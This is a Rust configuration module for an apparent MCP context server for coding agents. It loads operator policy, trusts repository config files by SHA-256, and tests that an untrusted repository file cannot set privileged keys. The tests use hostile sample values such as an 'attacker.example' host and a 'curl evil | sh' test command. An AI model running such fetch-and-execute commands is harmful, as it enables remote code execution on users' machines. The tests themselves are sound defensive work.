//! The operator's policy: limits, extra plugin directories, grants, the test command and HTTP
//! settings. Nothing an agent sends changes it, and the edits interface refuses to write it.
//!
//! The repository is untrusted, the operator is not. Privileged settings come only from
//! outside the root: `--config FILE` (or `$SMART_CONTEXT_CONFIG`), else the user's
//! `$XDG_CONFIG_HOME/smart-context/config.toml`. A `smart-context.toml` committed at the root
//! may set only `[index]` (excludes, size cap, watching) unless the operator trusted that exact
//! file with `smart-context trust`, which records its SHA-256 outside the root (like direnv's
//! `allow`); a changed file must be trusted again, and the server says so at start.

use anyhow::{Context, Result};
use serde::Deserialize;
use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};

/// The file name looked up at the workspace root.
pub const CONFIG_FILE: &str = "smart-context.toml";

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    #[serde(default)]
    pub limits: Limits,
    /// Directories with third-party plugins (`*.wasm`), relative to the config file.
    #[serde(default)]
    pub plugin_dirs: Vec<PathBuf>,
    /// Where compiled components are cached (default: the user cache directory).
    pub cache_dir: Option<PathBuf>,
    /// Per-plugin policy, keyed by plugin name (the file name without `.wasm`).
    #[serde(default)]
    pub plugin: BTreeMap<String, PluginPolicy>,
    #[serde(default)]
    pub http: Http,
    /// Team mode: where the state replicas share lives (default: state.db, one machine).
    /// Read from the operator's config only.
    #[serde(default)]
    pub store: StoreSettings,
    #[serde(default)]
    pub index: IndexSettings,
    #[serde(default)]
    pub test: TestSettings,
    #[serde(default)]
    pub workspace: WorkspaceSettings,
    #[serde(default)]
    pub audit: AuditSettings,
    #[serde(default)]
    pub scip: ScipSettings,
    /// The roots `serve`, `index` and `call` serve when no `--root` is given, and the names
    /// and policies of those given that match one. Read from the operator's config only: a
    /// repository never picks directories.
    #[serde(default)]
    pub roots: Vec<RootEntry>,
    /// Whether an MCP client's own workspace roots (`roots/list`) are served too.
    #[serde(default)]
    pub client_roots: ClientRoots,
    /// Where the file was read from, for resolving relative paths.
    #[serde(skip)]
    pub source: Option<PathBuf>,
    /// What the operator should know about how this config was put together (an untrusted
    /// root config whose privileged keys were ignored), logged at start.
    #[serde(skip)]
    pub notices: Vec<String>,
}

/// The most an untrusted root config may raise `[index] max_file_bytes` to.
pub const UNTRUSTED_MAX_FILE_BYTES: u64 = 16 << 20;

/// The most of a root config that is read (a larger one is cut, and then fails to parse).
const MAX_CONFIG_BYTES: u64 = 1 << 20;

/// The file in the user config directory that lists trusted root configs.
pub const TRUST_FILE: &str = "trusted";

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Limits {
    /// Linear memory one plugin instance may grow to.
    pub memory_mib: u64,
    /// Wall-clock budget of one plugin call (epoch deadline).
    pub timeout_ms: u64,
    /// Largest result a plugin may return.
    pub max_result_bytes: u64,
    /// Plugin instances alive at once (the pooling allocator's slots).
    pub max_instances: u32,
    /// Core module instances one component may create: a toolchain's runtime is several
    /// modules linked together (componentize-py's default output has 14, with `--stub-wasi`
    /// 38).
    pub core_instances_per_component: u32,
    /// Linear memories one component may define.
    pub memories_per_component: u32,
    /// Tables one component may define.
    pub tables_per_component: u32,
}

impl Default for Limits {
    fn default() -> Self {
        Self {
            memory_mib: 256,
            timeout_ms: 30_000,
            max_result_bytes: 16 << 20,
            max_instances: 64,
            core_instances_per_component: 64,
            memories_per_component: 8,
            tables_per_component: 32,
        }
    }
}

/// One `[[roots]]` entry.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RootEntry {
    /// What tools call it (`root`); default: its directory's name.
    pub name: Option<String>,
    /// The directory, relative to the config file.
    pub path: PathBuf,
    #[serde(default)]
    pub policy: RootPolicy,
}

/// What agents may do in a root: everything (`read-write`), or look only (`read-only`:
/// edits, undo and test runs are refused; searches, reads and reindexing work).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum RootPolicy {
    #[default]
    ReadWrite,
    ReadOnly,
}

/// The roots an MCP client lists (`roots/list`), served beside the operator's for that
/// client's session: off unless the operator allows it, only directories beneath `under`,
/// read-only unless the operator says otherwise, at most `max` a listing and `max_open` a
/// process.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ClientRoots {
    pub allow: bool,
    /// Directories a client's roots must lie in, relative to the config file.
    pub under: Vec<PathBuf>,
    pub policy: RootPolicy,
    /// Roots one listing may add.
    pub max: usize,
    /// Client roots this process opens in all (each keeps an index, a store and threads
    /// until the process ends); past it, new ones are refused.
    pub max_open: usize,
}

impl Default for ClientRoots {
    fn default() -> Self {
        Self {
            allow: false,
            under: Vec::new(),
            policy: RootPolicy::ReadOnly,
            max: 8,
            max_open: 32,
        }
    }
}

/// What the operator allows one plugin.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PluginPolicy {
    /// Host interfaces it may import: log, workspace, index, status, edits.
    #[serde(default)]
    pub grants: Vec<String>,
    /// Expose a third-party tool plugin over MCP (as `plugin__tool`).
    #[serde(default)]
    pub enabled: bool,
    /// Refuse the plugin unless its SHA-256 is this (hex).
    pub sha256: Option<String>,
}

/// The audit log: one JSON line per plugin call (see `runtime::audit`).
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AuditSettings {
    /// The file the lines are appended to, relative to the config file; none: no log.
    pub path: Option<PathBuf>,
}

/// `[store]`: the team database several `serve --http` replicas share (docs/team-mode.md).
#[derive(Debug, Clone, Default, Deserialize, PartialEq)]
#[serde(deny_unknown_fields)]
pub struct StoreSettings {
    /// `postgres://user[:password]@host[:port]/db`: evidence packs and session memory live
    /// there instead of in state.db, shared by every replica that names the same database.
    pub url: Option<String>,
    /// The key every replica signs and checks shared rows with (64 hex digits), relative to
    /// the config file. Required with `url`: a per-machine key would make each replica drop
    /// the others' rows as forged.
    pub key_file: Option<PathBuf>,
    /// Connections per process (default 16).
    pub pool_size: Option<usize>,
}

#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Http {
    /// Accepted `Host` header values; default: loopback names only.
    pub allowed_hosts: Option<Vec<String>>,
    /// Bearer token; default: $SMART_CONTEXT_HTTP_TOKEN, else one generated at start.
    pub token: Option<String>,
    /// Browser origins allowed to call the server, with scheme and port (`http://localhost:6274`
    /// for a local inspector, `:*` for any port); default none: a request carrying any `Origin`
    /// is refused.
    #[serde(default)]
    pub allowed_origins: Vec<String>,
    /// Connections open at once; more are closed at accept (default 64).
    pub max_connections: Option<usize>,
    /// How long a client may take to send a request's headers (default 10,000 ms); a slower
    /// or idle connection is closed.
    pub header_timeout_ms: Option<u64>,
}

/// What the code and document index covers.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct IndexSettings {
    /// Files larger than this are skipped (and reported), never read into the index.
    pub max_file_bytes: u64,
    /// Extra gitignore-style globs to leave out, on top of .gitignore, .ignore and the
    /// built-in excludes (node_modules, target, __pycache__, virtualenvs).
    pub exclude: Vec<String>,
    /// Keep the index fresh while serving, with a file watcher.
    pub watch: bool,
}

impl Default for IndexSettings {
    fn default() -> Self {
        Self {
            max_file_bytes: 2 << 20,
            exclude: Vec::new(),
            watch: true,
        }
    }
}

/// The SCIP indexer the host runs to keep `index.scip` fresh (operator only: an untrusted root
/// config cannot set it). Without a command an `index.scip` at the root is still used, as it is.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ScipSettings {
    /// The indexer's argv, run from the root with no shell, writing `index.scip` there:
    /// `["scip-python", "index", "."]`, `["scip-typescript", "index"]`,
    /// `["rust-analyzer", "scip", "."]`, `["scip-go"]`, `["scip-java", "index"]`.
    pub command: Option<Vec<String>>,
    /// Killed after this long (the whole process group).
    pub timeout_ms: u64,
    /// The least time from one run's start to the next: an index older than the files is
    /// brought up to date at most this often.
    pub min_interval_ms: u64,
    /// Environment variables passed through on top of the built-in allowlist.
    pub env: Vec<String>,
}

impl Default for ScipSettings {
    fn default() -> Self {
        Self {
            command: None,
            timeout_ms: 900_000,
            min_interval_ms: 120_000,
            env: Vec::new(),
        }
    }
}

/// What the workspace authority lets through beyond its defaults (operator only: an untrusted
/// root config cannot set it).
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct WorkspaceSettings {
    /// Read, list and index files with more than one name (hard links) even when the host
    /// cannot prove each name is a project file (workspace/links.rs).
    pub allow_hard_links: bool,
}

/// How `manage command=test` runs the project's tests. The agent never supplies a command:
/// only this argv (no shell), or with `detect = true` one found from the project's files.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct TestSettings {
    /// The argv to run from the root, e.g. `["cargo", "test"]`.
    pub command: Option<Vec<String>>,
    /// Without a command, run the one the project's files suggest (cargo, pytest, npm, go).
    pub detect: bool,
    /// Killed after this long (the whole process group).
    pub timeout_ms: u64,
    /// Output kept for the summary and the tail; the rest is counted, not stored.
    pub max_output_bytes: usize,
    /// Environment variables passed through on top of the built-in allowlist (PATH, HOME,
    /// locale, toolchain homes); nothing else of the server's environment reaches the tests.
    pub env: Vec<String>,
    /// On Linux, run the tests under Landlock: writes only under the root and the temp
    /// directory (reads stay open; the network is not restricted). Refused where the kernel
    /// has no Landlock.
    pub confine: bool,
    /// JUnit XML reports the command writes (files, or directories whose `*.xml` are read),
    /// relative to the root: when the run wrote any, the counts and failing tests come from
    /// them rather than from the console.
    pub junit_xml: Vec<String>,
}

impl Default for TestSettings {
    fn default() -> Self {
        Self {
            command: None,
            detect: false,
            timeout_ms: 600_000,
            max_output_bytes: 1 << 20,
            env: Vec::new(),
            confine: false,
            junit_xml: Vec::new(),
        }
    }
}

impl Config {
    /// The config for `root`: `explicit` if given (it must exist; the root's file is then not
    /// read), else the user's config file (if any) with the root's `smart-context.toml` on top:
    /// all of it when the operator trusted that exact file, else only its `[index]` table.
    pub fn load(root: &Path, explicit: Option<&Path>) -> Result<Self> {
        Self::load_from(root, explicit, &user_config_dir())
    }

    /// [`load`](Self::load) with the user config directory given (tests use their own).
    pub fn load_from(root: &Path, explicit: Option<&Path>, user_dir: &Path) -> Result<Self> {
        if let Some(path) = explicit {
            return Self::read(path);
        }
        let user = user_dir.join("config.toml");
        let mut config = if user.is_file() {
            Self::read(&user)?
        } else {
            Self::default()
        };
        let repo = root.join(CONFIG_FILE);
        let Ok(meta) = std::fs::symlink_metadata(&repo) else {
            return Ok(config);
        };
        if !meta.is_file() {
            config.notices.push(format!(
                "{} is not a regular file (a link?); ignored",
                repo.display()
            ));
            return Ok(config);
        }
        // The repository's file: read no more than a config can sensibly be.
        let mut bytes = Vec::new();
        std::fs::File::open(&repo)
            .and_then(|f| f.take(MAX_CONFIG_BYTES).read_to_end(&mut bytes))
            .with_context(|| format!("reading {}", repo.display()))?;
        match trust_state(&repo, &bytes, user_dir) {
            Trust::Trusted => {
                let mut trusted = Self::parse(&repo, &bytes)?;
                if !trusted.roots.is_empty() {
                    trusted.notices.push(format!(
                        "{}: [[roots]] ignored: only the operator's config (--config or {}) picks the roots to serve",
                        repo.display(),
                        user.display()
                    ));
                    trusted.roots = config.roots.clone();
                }
                if trusted.client_roots.allow != config.client_roots.allow
                    || !trusted.client_roots.under.is_empty()
                {
                    trusted.notices.push(format!(
                        "{}: [client_roots] ignored: only the operator's config lets clients add roots",
                        repo.display()
                    ));
                }
                trusted.client_roots = config.client_roots.clone();
                if trusted.store != StoreSettings::default() && trusted.store != config.store {
                    trusted.notices.push(format!(
                        "{}: [store] ignored: only the operator's config picks the team database",
                        repo.display()
                    ));
                }
                trusted.store = config.store.clone();
                // The operator's audit log stays on whatever a trusted root file says, unless
                // that file names its own.
                if trusted.audit.path.is_none() {
                    trusted.audit.path = config.audit_path();
                }
                return Ok(trusted);
            }
            Trust::Changed => config.notices.push(format!(
                "{} changed since it was trusted; only its [index] settings apply until you run `smart-context --root {} trust` again",
                repo.display(),
                root.display()
            )),
            Trust::Unknown => {}
        }
        config.apply_untrusted(&repo, &bytes, root, user_dir);
        Ok(config)
    }

    fn read(path: &Path) -> Result<Self> {
        let bytes =
            std::fs::read(path).with_context(|| format!("reading config {}", path.display()))?;
        Self::parse(path, &bytes)
    }

    fn parse(path: &Path, bytes: &[u8]) -> Result<Self> {
        let text = std::str::from_utf8(bytes)
            .with_context(|| format!("config {} is not UTF-8", path.display()))?;
        let mut config: Config =
            toml::from_str(text).with_context(|| format!("parsing config {}", path.display()))?;
        config.source = Some(path.to_path_buf());
        Ok(config)
    }

    /// Takes the harmless part of an untrusted root config (`[index]`, with the size cap
    /// bounded) and names what it ignored. A broken file is a notice, not a failed start: a
    /// repository must not be able to stop the server from starting.
    fn apply_untrusted(&mut self, path: &Path, bytes: &[u8], root: &Path, user_dir: &Path) {
        let table = match std::str::from_utf8(bytes)
            .map_err(anyhow::Error::from)
            .and_then(|t| Ok(t.parse::<toml::Table>()?))
        {
            Ok(table) => table,
            Err(err) => {
                self.notices.push(format!(
                    "{} is not valid TOML ({err}); ignored",
                    path.display()
                ));
                return;
            }
        };
        let ignored: Vec<&str> = table
            .keys()
            .map(String::as_str)
            .filter(|k| *k != "index")
            .collect();
        if !ignored.is_empty() {
            self.notices.push(format!(
                "{} is the repository's, not yours: ignored {} (privileged settings come from --config or {}); run `smart-context --root {} trust` to apply all of it",
                path.display(),
                ignored.join(", "),
                user_dir.join("config.toml").display(),
                root.display()
            ));
        }
        if let Some(index) = table.get("index") {
            // Only the keys the file sets: one it leaves out keeps the operator's value.
            let sets = |key: &str| index.get(key).is_some();
            match index.clone().try_into::<IndexSettings>() {
                Ok(index) => {
                    self.index.exclude.extend(index.exclude);
                    if sets("max_file_bytes") {
                        self.index.max_file_bytes =
                            index.max_file_bytes.min(UNTRUSTED_MAX_FILE_BYTES);
                    }
                    if sets("watch") {
                        self.index.watch = index.watch;
                    }
                }
                Err(err) => self
                    .notices
                    .push(format!("{}: [index] ignored ({err})", path.display())),
            }
        }
    }

    /// Loads `component_dir`'s plugin `name` instead of the operator's third-party plugins,
    /// granted `grants` and exposed: how `plugin check` runs one component alone under the
    /// operator's limits.
    pub fn only_plugin(&mut self, component_dir: PathBuf, name: &str, grants: Vec<String>) {
        self.plugin_dirs = vec![component_dir];
        self.plugin = BTreeMap::from([(
            name.to_string(),
            PluginPolicy {
                grants,
                enabled: true,
                sha256: None,
            },
        )]);
    }

    /// The directory relative paths in this config are resolved against: the file's own.
    fn base_dir(&self) -> &Path {
        self.source
            .as_deref()
            .and_then(Path::parent)
            .unwrap_or(Path::new("."))
    }

    /// The audit log's file, a relative one resolved against the config file's directory.
    /// `[store] key_file`, resolved against the config file's directory.
    pub fn store_key_file(&self) -> Option<PathBuf> {
        let path = self.store.key_file.as_ref()?;
        Some(self.base_dir().join(path))
    }

    pub fn audit_path(&self) -> Option<PathBuf> {
        let path = self.audit.path.as_ref()?;
        let base = self.base_dir();
        Some(base.join(path))
    }

    /// Extra plugin directories, relative ones resolved against the config file's directory.
    pub fn plugin_dirs(&self) -> Vec<PathBuf> {
        let base = self.base_dir();
        self.plugin_dirs.iter().map(|d| base.join(d)).collect()
    }

    /// The `[[roots]]` entries, relative paths resolved against the config file's directory.
    pub fn root_entries(&self) -> Vec<RootEntry> {
        let base = self.base_dir();
        self.roots
            .iter()
            .map(|r| RootEntry {
                path: base.join(&r.path),
                ..r.clone()
            })
            .collect()
    }

    /// `[client_roots] under`, relative paths resolved against the config file's directory.
    pub fn client_roots_under(&self) -> Vec<PathBuf> {
        let base = self.base_dir();
        self.client_roots
            .under
            .iter()
            .map(|d| base.join(d))
            .collect()
    }

    /// The operator's own config, no root's file: `explicit`, else the user's file, else
    /// the defaults. What decides the roots before any is opened.
    pub fn load_operator(explicit: Option<&Path>) -> Result<Self> {
        if let Some(path) = explicit {
            return Self::read(path);
        }
        let user = user_config_dir().join("config.toml");
        if user.is_file() {
            Self::read(&user)
        } else {
            Ok(Self::default())
        }
    }

    pub fn policy(&self, plugin: &str) -> Option<&PluginPolicy> {
        self.plugin.get(plugin)
    }

    /// The compiled-component cache directory (the operator's, or the user cache directory).
    pub fn cache_dir(&self) -> PathBuf {
        if let Some(dir) = &self.cache_dir {
            return dir.clone();
        }
        let base = std::env::var_os("XDG_CACHE_HOME")
            .map(PathBuf::from)
            .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cache")))
            .unwrap_or_else(std::env::temp_dir);
        base.join("smart-context").join("components")
    }
}

/// `$XDG_CONFIG_HOME/smart-context` (default `~/.config/smart-context`): the operator's config
/// and the list of trusted root configs.
pub fn user_config_dir() -> PathBuf {
    xdg_dir("XDG_CONFIG_HOME", ".config").join("smart-context")
}

/// `$XDG_DATA_HOME/smart-context` (default `~/.local/share/smart-context`): the journal key.
pub fn user_data_dir() -> PathBuf {
    xdg_dir("XDG_DATA_HOME", ".local/share").join("smart-context")
}

fn xdg_dir(var: &str, fallback: &str) -> PathBuf {
    std::env::var_os(var)
        .map(PathBuf::from)
        .filter(|p| p.is_absolute())
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(fallback)))
        .unwrap_or_else(std::env::temp_dir)
}

enum Trust {
    Trusted,
    /// Trusted once, with other content.
    Changed,
    Unknown,
}

fn trust_state(path: &Path, bytes: &[u8], user_dir: &Path) -> Trust {
    let Ok(canonical) = path.canonicalize() else {
        return Trust::Unknown;
    };
    let hash = sha256_hex(bytes);
    let list = std::fs::read_to_string(user_dir.join(TRUST_FILE)).unwrap_or_default();
    let mut seen = false;
    for line in list.lines() {
        let Some((h, p)) = line.split_once(' ') else {
            continue;
        };
        if Path::new(p) == canonical {
            if h == hash {
                return Trust::Trusted;
            }
            seen = true;
        }
    }
    if seen { Trust::Changed } else { Trust::Unknown }
}

/// Records the root config of `root`, as it is now, as trusted by this user: its SHA-256 and
/// canonical path go to the trust list outside the root. Returns the path and the hash.
pub fn trust(root: &Path) -> Result<(PathBuf, String)> {
    trust_in(root, &user_config_dir())
}

/// [`trust`] with the user config directory given.
pub fn trust_in(root: &Path, dir: &Path) -> Result<(PathBuf, String)> {
    let path = root.join(CONFIG_FILE);
    let meta = std::fs::symlink_metadata(&path)
        .with_context(|| format!("{} does not exist", path.display()))?;
    anyhow::ensure!(meta.is_file(), "{} is not a regular file", path.display());
    let bytes = std::fs::read(&path)?;
    Config::parse(&path, &bytes)?;
    let canonical = path.canonicalize()?;
    let hash = sha256_hex(&bytes);
    std::fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
    let list_path = dir.join(TRUST_FILE);
    let list = std::fs::read_to_string(&list_path).unwrap_or_default();
    let mut kept: Vec<String> = list
        .lines()
        .filter(|l| {
            l.split_once(' ')
                .is_none_or(|(_, p)| Path::new(p) != canonical)
        })
        .map(str::to_string)
        .collect();
    kept.push(format!("{hash} {}", canonical.display()));
    let tmp = dir.join(format!(".{TRUST_FILE}.{}", std::process::id()));
    std::fs::write(&tmp, kept.join("\n") + "\n")?;
    std::fs::rename(&tmp, &list_path)?;
    Ok((canonical, hash))
}

/// SHA-256 as lowercase hex: how trusted configs and pinned plugins are named.
pub(crate) fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_policy_and_resolves_dirs() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("operator.toml"),
            "plugin_dirs = [\"extra\"]\n[limits]\ntimeout_ms = 500\n[plugin.spin]\ngrants = [\"log\"]\nenabled = true\n",
        )
        .unwrap();
        let config = Config::load(dir.path(), Some(&dir.path().join("operator.toml"))).unwrap();
        assert_eq!(config.limits.timeout_ms, 500);
        assert_eq!(config.limits.memory_mib, 256);
        assert_eq!(config.plugin_dirs(), vec![dir.path().join("extra")]);
        assert_eq!(config.policy("spin").unwrap().grants, ["log"]);
    }

    #[test]
    fn roots_resolve_against_the_config_and_refuse_unknown_keys() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("operator.toml");
        std::fs::write(
            &path,
            "[[roots]]\npath = \"api\"\n\n[[roots]]\nname = \"docs\"\npath = \"/srv/docs\"\npolicy = \"read-only\"\n",
        )
        .unwrap();
        let roots = Config::load_operator(Some(&path)).unwrap().root_entries();
        assert_eq!(roots.len(), 2);
        assert_eq!(roots[0].path, dir.path().join("api"));
        assert_eq!(
            (roots[0].name.as_deref(), roots[0].policy),
            (None, RootPolicy::ReadWrite)
        );
        assert_eq!(roots[1].path, PathBuf::from("/srv/docs"));
        assert_eq!(
            (roots[1].name.as_deref(), roots[1].policy),
            (Some("docs"), RootPolicy::ReadOnly)
        );
        for wrong in [
            "[[roots]]\npath = \"a\"\nwritable = true\n",
            "[[roots]]\npath = \"a\"\npolicy = \"readonly\"\n",
            "[[roots]]\nname = \"a\"\n",
        ] {
            std::fs::write(&path, wrong).unwrap();
            assert!(Config::load_operator(Some(&path)).is_err(), "{wrong}");
        }
    }

    #[test]
    fn unknown_keys_are_errors() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("operator.toml");
        std::fs::write(&path, "[limits]\ntimeout = 5\n").unwrap();
        let err = Config::load(dir.path(), Some(&path)).unwrap_err();
        assert!(format!("{err:#}").contains("timeout"), "{err:#}");
    }

    #[test]
    fn missing_file_gives_defaults_but_explicit_must_exist() {
        let dir = tempfile::tempdir().unwrap();
        let user = tempfile::tempdir().unwrap();
        assert!(
            Config::load_from(dir.path(), None, user.path())
                .unwrap()
                .source
                .is_none()
        );
        assert!(Config::load(dir.path(), Some(&dir.path().join("nope.toml"))).is_err());
    }

    #[test]
    fn an_untrusted_root_config_sets_only_the_index() {
        let root = tempfile::tempdir().unwrap();
        let user = tempfile::tempdir().unwrap();
        std::fs::write(
            root.path().join(CONFIG_FILE),
            "plugin_dirs = [\"/tmp/evil\"]\ncache_dir = \"/tmp/evil\"\n[http]\ntoken = \"t\"\nallowed_hosts = [\"attacker.example:18766\"]\n[test]\ncommand = [\"sh\", \"-c\", \"id\"]\n[index]\nexclude = [\"data/\"]\nmax_file_bytes = 99999999999\n",
        )
        .unwrap();
        let config = Config::load_from(root.path(), None, user.path()).unwrap();
        assert!(config.plugin_dirs.is_empty() && config.cache_dir.is_none());
        assert!(config.http.token.is_none() && config.http.allowed_hosts.is_none());
        assert!(config.test.command.is_none());
        assert_eq!(config.index.exclude, ["data/"]);
        assert_eq!(config.index.max_file_bytes, UNTRUSTED_MAX_FILE_BYTES);
        let notice = config.notices.join("\n");
        for key in ["plugin_dirs", "cache_dir", "http", "test", "trust"] {
            assert!(notice.contains(key), "{notice}");
        }

        // Trusted, it is the operator's config; changed afterwards, it is untrusted again.
        trust_in(root.path(), user.path()).unwrap();
        let config = Config::load_from(root.path(), None, user.path()).unwrap();
        assert_eq!(config.test.command.as_deref().unwrap()[0], "sh");
        assert!(config.notices.is_empty());
        std::fs::write(
            root.path().join(CONFIG_FILE),
            "[test]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
        )
        .unwrap();
        let config = Config::load_from(root.path(), None, user.path()).unwrap();
        assert!(config.test.command.is_none());
        assert!(
            config.notices[0].contains("changed since it was trusted"),
            "{:?}",
            config.notices
        );
    }

    #[test]
    fn an_untrusted_index_table_changes_only_the_keys_it_sets() {
        let root = tempfile::tempdir().unwrap();
        let user = tempfile::tempdir().unwrap();
        std::fs::write(
            user.path().join("config.toml"),
            "[index]\nwatch = false\nmax_file_bytes = 4096\n",
        )
        .unwrap();
        std::fs::write(
            root.path().join(CONFIG_FILE),
            "[index]\nexclude = [\"data/\"]\n",
        )
        .unwrap();
        let config = Config::load_from(root.path(), None, user.path()).unwrap();
        assert_eq!(config.index.exclude, ["data/"]);
        assert!(!config.index.watch, "the operator's watch = false stays");
        assert_eq!(config.index.max_file_bytes, 4096);
    }

    #[test]
    fn a_broken_root_config_cannot_stop_the_server() {
        let root = tempfile::tempdir().unwrap();
        let user = tempfile::tempdir().unwrap();
        std::fs::write(root.path().join(CONFIG_FILE), "[limits\nmemory = ").unwrap();
        let config = Config::load_from(root.path(), None, user.path()).unwrap();
        assert!(config.notices[0].contains("not valid TOML"));
        std::fs::write(
            user.path().join("config.toml"),
            "[limits]\ntimeout_ms = 700\n",
        )
        .unwrap();
        std::fs::remove_file(root.path().join(CONFIG_FILE)).unwrap();
        let config = Config::load_from(root.path(), None, user.path()).unwrap();
        assert_eq!(config.limits.timeout_ms, 700, "the user's config applies");
    }
}
